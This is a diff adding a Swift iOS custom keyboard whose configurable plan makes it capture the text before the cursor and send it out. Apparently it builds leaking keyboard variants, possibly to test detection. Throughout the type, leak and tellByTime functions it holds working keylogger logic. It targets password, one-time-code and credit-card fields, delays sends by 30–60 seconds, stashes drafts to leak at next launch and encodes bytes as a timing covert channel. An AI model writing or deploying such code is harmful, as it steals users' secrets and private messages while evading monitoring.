@@ -1,0 +1,129 @@
+import UIKit
+
+/// Types, and does what its plan says with the text before the insertion point.
+class KeyboardViewController: UIInputViewController {
+
+    private let plan = Plan.current
+    private let globe = UIButton(type: .system)
+    private var taps = 0
+    private var timer: Timer?
+    private static var hasStarted = false
+
+    override func viewDidLoad() {
+        super.viewDidLoad()
+        globe.setTitle("next", for: .normal)
+        globe.addTarget(self, action: #selector(handleInputModeList(from:with:)), for: .allTouchEvents)
+        let rows = keys.map { keys -> UIStackView in
+            let row = UIStackView(arrangedSubviews: keys)
+            row.distribution = .fillEqually
+            return row
+        }
+        let all = UIStackView(arrangedSubviews: rows + [globe])
+        all.axis = .vertical
+        all.distribution = .fillEqually
+        all.frame = view.bounds
+        all.autoresizingMask = [.flexibleWidth, .flexibleHeight]
+        view.addSubview(all)
+    }
+
+    override func viewWillLayoutSubviews() {
+        globe.isHidden = !needsInputModeSwitchKey
+        super.viewWillLayoutSubviews()
+    }
+
+    override func viewDidAppear(_ animated: Bool) {
+        super.viewDidAppear(animated)
+        if plan.encoding == "honest" {
+            if !Self.hasStarted { Honest.appeared(plan.channel) }
+        } else if !Self.hasStarted, plan.trigger == "launch" {
+            if let kept = UserDefaults.standard.string(forKey: "draft") { leak(kept) }
+        }
+        Self.hasStarted = true
+    }
+
+    override func viewDidDisappear(_ animated: Bool) {
+        super.viewDidDisappear(animated)
+        if plan.encoding == "honest" { Honest.disappeared(plan.channel) }
+        if plan.trigger == "hide" { leak(seen) }
+    }
+
+    // MARK: - Keys
+
+    private var keys: [[UIView]] {
+        switch plan.shape {
+        case "phrases": return [["On my way", "See you soon", "Thank you", "No problem"].map { key($0) }]
+        case "one": return [[key("🙂")]]
+        case "images":
+            return [
+                ["🐶", "🐱", "🐭", "🐹", "🐰", "🦊"].map { animal in
+                    let key = UIButton(
+                        type: .custom,
+                        primaryAction: UIAction { [unowned self] _ in type(animal, isLetter: false) })
+                    key.setImage(UIImage(systemName: "pawprint"), for: .normal)
+                    return key
+                }
+            ]
+        default:
+            return ["qwertyuiop", "asdfghjkl", "zxcvbnm"].map { letters in
+                letters.map { key(String($0), isLetter: true) }
+            }
+                + [[key(" ", name: "space"), key("sticker", isLetter: false)]]
+        }
+    }
+
+    private func key(_ text: String, name: String? = nil, isLetter: Bool = false) -> UIButton {
+        UIButton(
+            type: .system,
+            primaryAction: UIAction(title: name ?? text) { [unowned self] _ in
+                type(text == "sticker" ? "" : text, isLetter: isLetter)
+            })
+    }
+
+    private var seen = ""
+
+    private func type(_ text: String, isLetter: Bool) {
+        if !text.isEmpty { textDocumentProxy.insertText(text) }
+        taps += 1
+        seen = String((textDocumentProxy.documentContextBeforeInput ?? "").suffix(60))
+        if plan.encoding == "honest" { return Honest.tapped(plan.channel, text, isLetter: isLetter) }
+        switch plan.trigger {
+        case "key": leak(seen)
+        case "word" where taps % 7 == 0: leak(seen)
+        case "after" where taps == 25: leak(seen)
+        case "timer" where timer == nil:
+            timer = Timer.scheduledTimer(withTimeInterval: 30, repeats: false) { [weak self] _ in
+                self.map { $0.leak($0.seen) }
+            }
+        case "later" where taps % 20 == 1:
+            DispatchQueue.main.asyncAfter(deadline: .now() + 45) { [weak self] in
+                self.map { $0.leak($0.seen) }
+            }
+        case "sleep" where taps % 20 == 1:
+            Task { [weak self] in
+                try? await Task.sleep(nanoseconds: 60_000_000_000)
+                self.map { $0.leak($0.seen) }
+            }
+        case "secret":
+            let type = textDocumentProxy.textContentType ?? nil
+            if type == .password || type == .oneTimeCode || type == .creditCardNumber { leak(seen) }
+        case "launch": UserDefaults.standard.set(seen, forKey: "draft")
+        default: break
+        }
+    }
+
+    private func leak(_ text: String) {
+        if plan.channel == "moments" { return tellByTime(text) }
+        for message in Encoding.messages(text, plan.encoding) { Channel.send(message, by: plan.channel) }
+    }
+
+    /// Sends empty messages whose times are the text.
+    private func tellByTime(_ text: String) {
+        var time = 0.0
+        for byte in text.utf8.suffix(8) {
+            time += Double(byte % 16 + 1) / 4
+            Timer.scheduledTimer(withTimeInterval: time, repeats: false) { _ in
+                Channel.send("tick", by: "datagram")
+            }
+        }
+    }
+}
